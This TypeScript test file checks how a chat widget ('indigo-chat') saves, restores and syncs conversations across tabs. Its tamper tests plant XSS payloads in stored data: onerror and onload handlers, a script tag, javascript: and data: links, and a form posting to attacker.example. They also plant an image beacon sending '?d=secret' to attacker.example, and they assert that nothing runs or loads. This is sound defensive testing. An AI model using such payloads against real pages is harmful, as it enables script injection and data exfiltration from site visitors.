import { aTimeout, expect, fixture, html } from '@open-wc/testing';
import { waitUntil } from '../../test/support/wait-until.js';
import '../define.js';
import type { IndigoChat } from '../components/indigo-chat/indigo-chat.js';
import {
  $,
  $$,
  botMessages,
  otherTab,
  sseResponse,
  useFakeRelays,
  userMessages,
  welcomeChunks,
} from '../components/indigo-chat/fake-relay.test-helper.js';
import { lazyTesting } from '../components/blocks/lazy-part.js';
import { launch, type WidgetModule } from '../loader/launch.js';
import { storageKey } from './storage.js';
import { persistCodec } from './persistence-controller.js';

const persistCodecLoaded = () => persistCodec.load();

// The stored conversation's format is a lazy chunk (docs/decisions/persistence-off-the-open-path.md):
// held back or failing here through lazyTesting, as a slow or broken network would.
const relays = useFakeRelays('persist');
let n = 0;

/** An import held until the test lets it go (with the real module) or fails it. */
function held(): { importer: () => Promise<unknown>; release(): void; fail(): void } {
  let release!: () => void;
  let fail!: () => void;
  const gate = new Promise<unknown>((resolve, reject) => {
    release = () => resolve(import('./persist-codec.js'));
    fail = () => reject(new Error('chunk failed to load'));
  });
  return { importer: () => gate, release, fail };
}

function create(relay: string, id: string): IndigoChat {
  const el = document.createElement('indigo-chat');
  el.setAttribute('relay', relay);
  el.id = id;
  return el;
}

/** A conversation saved by an earlier page: the welcome and one exchange, panel left open. */
async function savedConversation(relay: ReturnType<typeof relays.relay>, id: string): Promise<string> {
  const first = await fixture<IndigoChat>(html`<indigo-chat relay=${relay.path} id=${id}></indigo-chat>`);
  $<HTMLButtonElement>(first, '[part~="launcher"]')!.click();
  await waitUntil(() => botMessages(first).length === 1 && first.conversation.transcript.status === 'idle', 'welcome');
  first.send('remember this');
  await waitUntil(() => botMessages(first).length === 2 && first.conversation.transcript.status === 'idle', 'answer');
  first.remove(); // the page goes away (saves on disconnect, or when the code it saves with arrives)
  const key = storageKey(relay.path, id);
  await waitUntil(() => localStorage.getItem(key) !== null, 'saved');
  return localStorage.getItem(key)!;
}

describe('persistence with its code loaded on demand', () => {
  afterEach(() => lazyTesting.restore());

  it('restores a saved conversation in the first render, with no welcome request, when its code arrives late', async () => {
    const r = relays.relay().queue(welcomeChunks('Persist me'));
    const id = `restore-${++n}`;
    await savedConversation(r, id);
    const sessions = r.sessions;
    const sent = r.sent.length;

    const gate = held();
    lazyTesting.override('persistence', gate.importer);
    const el = create(r.path, id);
    let firstRender: { bots: number; users: number; open: boolean; sessions: number } | null = null;
    const inst = el as unknown as { firstUpdated(changed: unknown): void };
    const firstUpdated = inst.firstUpdated.bind(el);
    inst.firstUpdated = (changed) => {
      firstRender ??= { bots: botMessages(el).length, users: userMessages(el).length, open: el.open, sessions: r.sessions };
      firstUpdated(changed);
    };
    document.body.append(el);
    await aTimeout(100);
    // Still reading: nothing rendered (no empty panel, no welcome), nothing requested.
    expect(firstRender).to.equal(null);
    expect(el.shadowRoot?.querySelector('[part~="panel"]') ?? null).to.equal(null);
    expect(r.sessions).to.equal(sessions);
    // A call made meanwhile waits for the restore (it belongs to the restored conversation).
    expect(el.send('after the reload')).to.equal(true);

    gate.release();
    await el.updateComplete;
    expect(firstRender).to.deep.equal({ bots: 2, users: 1, open: true, sessions });
    expect(botMessages(el)[0]!.textContent).to.contain('Persist me');
    await waitUntil(() => r.sent.length === sent + 1, 'the queued send went out');
    expect(r.sent.at(-1)!.data).to.deep.equal({ type: 'text', text: 'after the reload' });
    expect(r.sessions).to.equal(sessions); // the same conversation, no new welcome
    el.remove();
  });

  it('writes saves asked for before its code arrived once it does, from the latest state', async () => {
    const r = relays.relay().queue(welcomeChunks('Hello there'));
    const id = `save-${++n}`;
    const key = storageKey(r.path, id);
    const gate = held();
    lazyTesting.override('persistence', gate.importer);
    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
    $<HTMLButtonElement>(el, '[part~="launcher"]')!.click();
    await waitUntil(() => botMessages(el).length === 1 && el.conversation.transcript.status === 'idle', 'welcome');
    el.send('first');
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    // Several saves were asked for (open, messages, answers): none could be written yet.
    expect(localStorage.getItem(key)).to.equal(null);

    const writes: string[] = [];
    const proto = Storage.prototype;
    const setItem = Object.getOwnPropertyDescriptor(proto, 'setItem')!;
    Object.defineProperty(proto, 'setItem', {
      ...setItem,
      value(this: Storage, k: string, v: string) {
        if (k === key) writes.push(v);
        (setItem.value as (this: Storage, k: string, v: string) => void).call(this, k, v);
      },
    });
    try {
      gate.release();
      await waitUntil(() => writes.length > 0, 'written when the code arrived');
      await aTimeout(50);
    } finally {
      Object.defineProperty(proto, 'setItem', setItem);
    }
    expect(writes).to.have.length(1); // coalesced: one write
    const stored = JSON.parse(localStorage.getItem(key)!) as { open: boolean; sender: string; transcript: string };
    expect(stored.open).to.equal(true);
    expect(stored.sender).to.equal(el.conversation.sender);
    const transcript = JSON.parse(stored.transcript) as { messages: { role: string; text?: string }[] };
    expect(transcript.messages.map((m) => m.role)).to.deep.equal(['bot', 'user', 'bot']);
    expect(transcript.messages[1]!.text).to.equal('first');
    el.remove();
  });

  it('writes once, too, when the browser is idle only after the code arrived (a loaded machine)', async () => {
    const r = relays.relay().queue(welcomeChunks('Hello there'));
    const id = `save-late-idle-${++n}`;
    const key = storageKey(r.path, id);
    const gate = held();
    lazyTesting.override('persistence', gate.importer);
    // Idle time comes late: the callbacks asked for run only after the code is here.
    const idle: (() => void)[] = [];
    const ric = globalThis.requestIdleCallback; // WebKit has none: setTimeout is used there
    const restoreIdle = () =>
      ric ? (globalThis.requestIdleCallback = ric) : delete (globalThis as { requestIdleCallback?: unknown }).requestIdleCallback;
    globalThis.requestIdleCallback = (cb: IdleRequestCallback) => idle.push(() => cb({ didTimeout: false, timeRemaining: () => 50 }));
    const writes: string[] = [];
    const proto = Storage.prototype;
    const setItem = Object.getOwnPropertyDescriptor(proto, 'setItem')!;
    try {
      const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
      $<HTMLButtonElement>(el, '[part~="launcher"]')!.click();
      await waitUntil(() => botMessages(el).length === 1 && el.conversation.transcript.status === 'idle', 'welcome');
      el.send('first');
      await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
      expect(idle.length).to.be.greaterThan(0); // saves asked for with the panel still empty
      Object.defineProperty(proto, 'setItem', {
        ...setItem,
        value(this: Storage, k: string, v: string) {
          if (k === key) writes.push(v);
          (setItem.value as (this: Storage, k: string, v: string) => void).call(this, k, v);
        },
      });
      gate.release();
      await waitUntil(() => writes.length > 0, 'written when the code arrived');
      restoreIdle();
      for (const run of idle.splice(0)) run();
      await aTimeout(50);
      expect(writes).to.have.length(1);
      el.remove();
    } finally {
      restoreIdle();
      Object.defineProperty(proto, 'setItem', setItem);
    }
  });

  it('keeps the saved conversation intact and says so when its code fails to load', async () => {
    const r = relays.relay().queue(welcomeChunks('Old one'), welcomeChunks('New one'));
    const id = `fail-${++n}`;
    const key = storageKey(r.path, id);
    const raw = await savedConversation(r, id);
    const launcher = localStorage.getItem(`${key}:launcher`);

    const gate = held();
    lazyTesting.override('persistence', gate.importer);
    const el = create(r.path, id);
    document.body.append(el);
    gate.fail();
    await el.updateComplete;
    // The panel was open on the earlier page: it opens, says what happened, and works in memory.
    expect(el.open).to.equal(true);
    const notice = $(el, '[part~="notice"].restore-failed');
    expect(notice?.getAttribute('role')).to.equal('status');
    expect(notice!.textContent).to.contain('could not be loaded');
    await waitUntil(() => botMessages(el).length === 1 && el.conversation.transcript.status === 'idle', 'a new welcome, in memory');
    el.send('not saved');
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    el.remove(); // disconnect and pagehide save, normally
    window.dispatchEvent(new Event('pagehide'));
    expect(localStorage.getItem(key)).to.equal(raw);
    expect(localStorage.getItem(`${key}:launcher`)).to.equal(launcher);

    // The next page (the code loads again) finds the earlier conversation.
    await lazyTesting.restore();
    const again = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
    expect(userMessages(again)[0]!.textContent).to.contain('remember this');
    expect($(again, '[part~="notice"].restore-failed')).to.equal(null);
    again.remove();
  });

  it('an element removed while its saved conversation is still being read writes nothing over it', async () => {
    const r = relays.relay().queue(welcomeChunks('Keep me'));
    const id = `removed-${++n}`;
    const raw = await savedConversation(r, id);
    const gate = held();
    lazyTesting.override('persistence', gate.importer);
    // Inline: shown as soon as it is on screen (revealed, so saves may be written).
    const el = create(r.path, id);
    el.setAttribute('mode', 'inline');
    el.style.cssText = 'display:block;width:300px;height:300px';
    document.body.append(el);
    await aTimeout(100);
    el.remove(); // a single-page app changes route
    window.dispatchEvent(new Event('pagehide'));
    gate.release();
    await persistCodecLoaded();
    await aTimeout(50);
    expect(localStorage.getItem(storageKey(r.path, id))).to.equal(raw);
  });

  it('the loaders fetch the reader beside the widget only when a conversation is saved, and define after it', async () => {
    const order: string[] = [];
    const widget =
      (tag: string): (() => Promise<WidgetModule>) =>
      async () => {
        order.push('widget');
        return {
          defineIndigoChat(name = tag) {
            order.push('define');
            customElements.define(
              name,
              class extends HTMLElement {
                updateComplete = Promise.resolve(true);
                show(): void {}
              },
            );
            return undefined;
          },
        };
      };
    const reader = () => {
      order.push('reader');
      return new Promise<unknown>((resolve) => setTimeout(() => (order.push('reader loaded'), resolve({})), 50));
    };
    const mk = (tag: string, id: string) => {
      const el = document.createElement(tag);
      el.id = id;
      el.setAttribute('relay', '/loader-probe');
      el.setAttribute('mode', 'inline'); // upgraded at once
      document.body.append(el);
      return el;
    };

    // Nothing saved: the widget alone.
    const plain = mk('persist-probe-a', 'nothing-saved');
    await launch(plain, widget('persist-probe-a'), reader).upgrade();
    expect(order).to.deep.equal(['widget', 'define']);

    order.length = 0;
    localStorage.setItem(storageKey('/loader-probe', 'saved'), '{"v":1}');
    try {
      const withSaved = mk('persist-probe-b', 'saved');
      await launch(withSaved, widget('persist-probe-b'), reader).upgrade();
      expect(order).to.deep.equal(['reader', 'widget', 'reader loaded', 'define']);
      withSaved.remove();
    } finally {
      localStorage.removeItem(storageKey('/loader-probe', 'saved'));
      plain.remove();
    }
  });
});

/** Opens a chat, waits for its first answer, leaves the page; returns the saved key. */
async function savedFirstAnswer(r: ReturnType<typeof relays.relay>, id: string): Promise<string> {
  const first = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
  $<HTMLButtonElement>(first, '[part~="launcher"]')!.click();
  await waitUntil(() => botMessages(first).length === 1 && first.conversation.transcript.status === 'idle', 'answer');
  first.remove();
  const key = storageKey(r.path, id);
  await waitUntil(() => localStorage.getItem(key) !== null, 'saved');
  return key;
}

/** Another script on the page edits the saved value. */
function editSaved(key: string, edit: (saved: Record<string, unknown>) => void): void {
  const saved = JSON.parse(localStorage.getItem(key)!) as Record<string, unknown>;
  edit(saved);
  localStorage.setItem(key, JSON.stringify(saved));
}

describe('a saved conversation edited by another script', () => {
  it('restores only exact http(s) media origins: `*` or a URL with a path in storage lets no image load on render', async () => {
    const r = relays.relay().queue([
      { type: 'processing.start' },
      {
        type: 'text',
        data: {
          text: '<p><img src="https://attacker.example/p.gif?d=secret" alt="leak"> <img src="https://allowed.example/ok.png" alt="ok"></p>',
        },
      },
      { type: 'processing.end' },
    ]);
    const id = `tampered-${++n}`;
    editSaved(await savedFirstAnswer(r, id), (saved) => {
      saved['media'] = [
        '*',
        'https://attacker.example/any/path',
        ' https://attacker.example',
        'javascript:alert(1)',
        'https://allowed.example',
      ];
    });

    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
    await waitUntil(() => botMessages(el).length === 1, 'restored');
    await el.updateComplete;
    expect(el.conversation.mediaOrigins).to.deep.equal(['https://allowed.example']);
    const images = botMessages(el)[0]!.querySelectorAll('img');
    expect([...images].map((i) => i.getAttribute('src'))).to.deep.equal(['https://allowed.example/ok.png']);
    expect($$(el, '[part~="blocked-media"]').map((p) => p.textContent.trim())).to.deep.equal(['Show image “leak” from attacker.example']);
    el.remove();
  });
});

describe('a saved transcript with an impossible time', () => {
  it('is discarded like any transcript that does not validate: the element renders and starts afresh', async () => {
    const r = relays.relay().queue(welcomeChunks('First'), welcomeChunks('Fresh start'));
    const id = `bad-time-${++n}`;
    editSaved(await savedFirstAnswer(r, id), (saved) => {
      const transcript = JSON.parse(saved['transcript'] as string) as { messages: { at: number }[] };
      // Finite, so it passed for a time, but past what a Date can hold: toISOString() throws.
      transcript.messages[0]!.at = 1e300;
      saved['transcript'] = JSON.stringify(transcript);
    });

    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
    el.scrollIntoView();
    await waitUntil(() => botMessages(el).some((m) => m.textContent.includes('Fresh start')), 'a fresh conversation');
    expect(el.conversation.transcript.messages.every((m) => Math.abs(m.at) <= 8.64e15)).to.equal(true);
    el.remove();
  });
});

describe('a saved conversation tampered with, truncated or from another format', () => {
  it('hostile HTML and URLs edited into it are re-sanitized on restore: nothing runs, no javascript: link, the rest shows', async () => {
    const r = relays.relay().queue(welcomeChunks('Saved welcome'));
    const id = `tampered-${++n}`;
    const w = window as unknown as { tamperedRan?: number };
    w.tamperedRan = 0;
    editSaved(await savedFirstAnswer(r, id), (saved) => {
      const t = JSON.parse(saved['transcript'] as string) as {
        nextId: number;
        messages: { role: string; text?: string; data?: unknown; blocks?: { kind: string; html?: string; actions?: unknown[] }[] }[];
      };
      const bot = t.messages.find((m) => m.role === 'bot')!;
      const text = bot.blocks!.find((b) => b.kind === 'text')!;
      text.html +=
        '<img src="x" onerror="window.tamperedRan++"><script>window.tamperedRan++</script>' +
        '<a href="javascript:window.tamperedRan++">link</a><svg onload="window.tamperedRan++"></svg>' +
        '<form action="https://attacker.example/"><button formaction="javascript:1">b</button></form>';
      bot
        .blocks!.find((b) => b.kind === 'actions')!
        .actions!.push(
          { type: 'link', label: 'Pay here', url: 'javascript:window.tamperedRan++' },
          { type: 'link', label: 'Data', url: 'data:text/html,<script>1</script>' },
        );
      t.messages.push({
        id: `m${t.nextId++}`,
        role: 'user',
        text: '<img src=x onerror="window.tamperedRan++">',
        data: { type: 'text', text: '<img src=x onerror="window.tamperedRan++">' },
        status: 'sent',
        at: Date.now(),
      } as never);
      saved['transcript'] = JSON.stringify(t);
      saved['draft'] = '<img src=x onerror="window.tamperedRan++">';
    });

    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
    await waitUntil(() => botMessages(el).length === 1 && userMessages(el).length === 1, 'restored');
    await el.updateComplete;
    await aTimeout(100);
    expect(w.tamperedRan).to.equal(0);
    expect(botMessages(el)[0]!.textContent).to.contain('Saved welcome');
    const root = el.shadowRoot!;
    const all = [...root.querySelectorAll('*')];
    // Nothing of the markup edited into the bubbles survives as elements (the element's own
    // icons and composer form are outside them).
    const shown = [...$$(el, '[part~="bubble"]'), ...userMessages(el)].flatMap((m) => [...m.querySelectorAll('*')]);
    expect(shown.filter((e) => ['script', 'svg', 'form'].includes(e.localName)).map((e) => e.localName)).to.deep.equal([]);
    expect(shown.filter((e) => e.localName === 'button' && !e.closest('[part~="quick-replies"]')).map((e) => e.outerHTML)).to.deep.equal(
      [],
    );
    expect(
      all.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.localName} ${a.name}`)),
    ).to.deep.equal([]);
    const hrefs = all.map((e) => e.getAttribute('href') ?? '').filter((h) => h !== '');
    expect(hrefs.filter((h) => !/^https?:/.test(h))).to.deep.equal([]);
    // The refused links are dropped alone: the welcome's quick replies are still there.
    expect($$(el, '[part~="link"]').map((a) => a.textContent.trim())).to.not.include('Pay here');
    expect($$(el, '[part~="button"]').map((b) => b.textContent.trim())).to.include('Contact');
    // The visitor's stored text is text, never markup; so is the draft.
    expect(userMessages(el)[0]!.textContent).to.contain('<img src=x onerror=');
    expect($<HTMLTextAreaElement>(el, '[part~="input"]')!.value).to.equal('<img src=x onerror="window.tamperedRan++">');
    el.remove();
  });

  for (const [name, edit] of [
    ['cut short by a full quota', (raw: string) => raw.slice(0, Math.floor(raw.length / 2))],
    ['of another format version', (raw: string) => JSON.stringify({ ...(JSON.parse(raw) as object), v: 2 })],
    ['not JSON at all', () => '<html>'],
    ['a JSON value of another shape', () => '[1,2,3]'],
  ] as const) {
    it(`${name}: dropped, nothing thrown, a fresh conversation starts and is saved over it`, async () => {
      const r = relays.relay().queue(welcomeChunks('First'), welcomeChunks('Fresh start'));
      const id = `broken-${++n}`;
      const key = await savedFirstAnswer(r, id);
      localStorage.setItem(key, edit(localStorage.getItem(key)!));
      const errors: string[] = [];
      const onError = (e: ErrorEvent) => errors.push(e.message);
      window.addEventListener('error', onError);
      try {
        const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
        el.scrollIntoView();
        await waitUntil(() => botMessages(el).some((m) => m.textContent.includes('Fresh start')), 'a fresh conversation');
        await waitUntil(() => (localStorage.getItem(key) ?? '').includes('Fresh start'), 'saved over');
        expect(errors).to.deep.equal([]);
        el.remove();
      } finally {
        window.removeEventListener('error', onError);
      }
    });
  }
});

describe('two tabs of the site holding one conversation', () => {
  /** The page at an older save: it restores `raw` and shows it, idle. */
  async function pageAt(r: ReturnType<typeof relays.relay>, id: string, raw: string, users: number): Promise<IndigoChat> {
    localStorage.setItem(storageKey(r.path, id), raw);
    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} open></indigo-chat>`);
    await waitUntil(() => userMessages(el).length === users && el.conversation.transcript.status === 'idle', 'restored');
    return el;
  }

  /** Sends `text` and waits for its answer. */
  async function exchange(el: IndigoChat, text: string): Promise<void> {
    const bots = botMessages(el).length;
    el.send(text);
    await waitUntil(() => botMessages(el).length === bots + 1 && el.conversation.transcript.status === 'idle', `answer to ${text}`);
  }

  it('an idle chat shows what the other tab added, and its next save keeps it', async () => {
    const r = relays.relay().queue(welcomeChunks('Both tabs'));
    const id = `tabs-${++n}`;
    const key = storageKey(r.path, id);
    const older = await savedConversation(r, id); // welcome + 'remember this'
    // The other tab goes on: one more exchange, saved.
    const ahead = await pageAt(r, id, older, 1);
    await exchange(ahead, 'from the other tab');
    ahead.remove();
    const newer = localStorage.getItem(key)!;

    // This tab was opened before that and still shows the older save.
    const el = await pageAt(r, id, older, 1);
    const tab = otherTab();
    try {
      await tab.set(key, newer);
      await waitUntil(() => userMessages(el).length === 2, 'the other tab’s exchange shown');
      expect(userMessages(el)[1]!.textContent).to.contain('from the other tab');
      expect(botMessages(el)).to.have.length(3);
      // Its own next message follows on: nothing the other tab said is written away.
      await exchange(el, 'and from this one');
      const saved = JSON.parse(JSON.parse(localStorage.getItem(key)!).transcript) as { messages: { text?: string }[] };
      expect(saved.messages.map((m) => m.text).filter(Boolean)).to.deep.equal(['remember this', 'from the other tab', 'and from this one']);
      expect(r.sent.at(-1)!.sender).to.equal(el.conversation.sender);
    } finally {
      tab.close();
      el.remove();
    }
  });

  it('keeps what it shows when the other tab’s save lacks it, ignores a removal, and never takes a save mid-answer', async () => {
    const r = relays.relay().queue(welcomeChunks('Diverged'));
    const id = `tabs-${++n}`;
    const key = storageKey(r.path, id);
    const older = await savedConversation(r, id);
    const ahead = await pageAt(r, id, older, 1);
    await exchange(ahead, 'other tab only');
    ahead.remove();
    const newer = localStorage.getItem(key)!;

    const el = await pageAt(r, id, older, 1);
    await exchange(el, 'this tab only');
    const tab = otherTab();
    try {
      await tab.set(key, newer); // the same conversation, but without this tab's last exchange
      tab.remove(key);
      await aTimeout(300);
      expect(userMessages(el)).to.have.length(2);
      expect(userMessages(el)[1]!.textContent).to.contain('this tab only');

      // While an answer streams here, another tab's save waits for this tab's own.
      r.queue(() => sseResponse([{ type: 'processing.start' }, { type: 'text', data: { text: '<p>still going</p>' } }], { stall: true }));
      el.send('streaming here');
      await waitUntil(() => el.conversation.inFlight && botMessages(el).at(-1)!.textContent.includes('still going'), 'streaming');
      const before = userMessages(el).length;
      await tab.set(key, newer);
      await aTimeout(300);
      expect(userMessages(el)).to.have.length(before);
      expect(userMessages(el).at(-1)!.textContent).to.contain('streaming here');
    } finally {
      tab.close();
      el.remove();
    }
  });

  /**
   * Another tab with the widget itself in it (a same-origin iframe loading the element's
   * module): its own document, module state and BroadcastChannel, the page's storage.
   */
  async function tabWithWidget(relay: string, id: string): Promise<{ el: IndigoChat; close(): void }> {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script type="module" src="${new URL('../define.ts', import.meta.url).href}"></script>`;
    document.body.append(frame);
    await waitUntil(() => frame.contentWindow?.customElements?.get('indigo-chat') !== undefined, 'the widget defined in the other tab');
    const doc = frame.contentDocument!;
    // It restores the conversation (its panel open, as saved) and asks the relay nothing.
    const el = doc.createElement('indigo-chat');
    el.setAttribute('relay', relay);
    el.id = id;
    doc.body.append(el);
    await el.updateComplete;
    return { el, close: () => frame.remove() };
  }

  /** What is kept under `key` (the conversation, its launcher state, its votes). */
  const keptUnder = (key: string) => Object.keys(localStorage).filter((k) => k.startsWith(key));

  /** This tab and another running the widget, both showing one saved conversation; cleaned up after `run`. */
  async function twoTabs(run: (t: { el: IndigoChat; tab: { el: IndigoChat }; key: string }) => Promise<void>): Promise<void> {
    const r = relays.relay().queue(welcomeChunks('Withdrawn'));
    const id = `tabs-${++n}`;
    const key = storageKey(r.path, id);
    const el = await pageAt(r, id, await savedConversation(r, id), 1);
    const tab = await tabWithWidget(r.path, id);
    try {
      await waitUntil(() => tab.el.conversation.transcript.messages.length === 3, 'the other tab restored it');
      await run({ el, tab, key });
    } finally {
      tab.close();
      el.remove();
      localStorage.removeItem(key);
    }
  }

  it('follows a withdrawal in the other tab: it switches `storage` too and writes nothing back', () =>
    twoTabs(async ({ el, tab, key }) => {
      // The consent tool there withdraws: the conversation leaves localStorage.
      tab.el.setAttribute('storage', 'none');
      await tab.el.updateComplete;
      expect(localStorage.getItem(key)).to.equal(null);
      await waitUntil(() => el.storage === 'none', 'this tab follows');
      expect(el.getAttribute('storage')).to.equal('none');
      await exchange(el, 'after the withdrawal');
      globalThis.dispatchEvent(new Event('pagehide'));
      expect(keptUnder(key), 'nothing written back').to.deep.equal([]);
      expect(userMessages(el)).to.have.length(2);
      expect(userMessages(el)[1]!.textContent, 'the chat keeps what it shows').to.contain('after the withdrawal');
      // A switch back to local here is this page's own consent: it stores again.
      el.setAttribute('storage', 'local');
      await el.updateComplete;
      expect(localStorage.getItem(key)).to.contain('after the withdrawal');
      expect(tab.el.storage, 'a move into local is not followed').to.equal('none');
    }));

  it('an element out of the page when the other tab withdrew follows once it is back, and writes nothing back', () =>
    twoTabs(async ({ el, tab, key }) => {
      el.remove(); // a single-page app's route without the chat
      tab.el.setAttribute('storage', 'none');
      await tab.el.updateComplete;
      await aTimeout(100); // the message has arrived here
      expect(el.storage, 'out of the page: not switched yet').to.equal('local');
      document.body.append(el); // the route with the chat again
      await waitUntil(() => el.storage === 'none', 'it follows when back');
      globalThis.dispatchEvent(new Event('pagehide'));
      expect(keptUnder(key), 'nothing written back').to.deep.equal([]);
      expect(userMessages(el)[0]!.textContent, 'the chat keeps what it shows').to.contain('remember this');
    }));

  it('follows a new conversation the other tab started (another sender)', async () => {
    const r = relays.relay().queue(welcomeChunks('First conversation'));
    const id = `tabs-${++n}`;
    const key = storageKey(r.path, id);
    const older = await savedConversation(r, id);
    r.queue(welcomeChunks('Second conversation'));
    // The other tab restarted: a new sender, a new welcome (saved under another id here, then moved).
    const fresh = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${`${id}-new`} open></indigo-chat>`);
    await waitUntil(() => botMessages(fresh).length === 1 && fresh.conversation.transcript.status === 'idle', 'new welcome');
    const sender = fresh.conversation.sender;
    fresh.remove();
    const restarted = localStorage.getItem(storageKey(r.path, `${id}-new`))!;

    const el = await pageAt(r, id, older, 1);
    expect(el.conversation.sender).not.to.equal(sender);
    const tab = otherTab();
    try {
      await tab.set(key, restarted);
      await waitUntil(() => el.conversation.sender === sender, 'the new conversation taken');
      await el.updateComplete;
      expect(userMessages(el)).to.have.length(0);
      expect(botMessages(el)[0]!.textContent).to.contain('Second conversation');
    } finally {
      tab.close();
      el.remove();
    }
  });
});
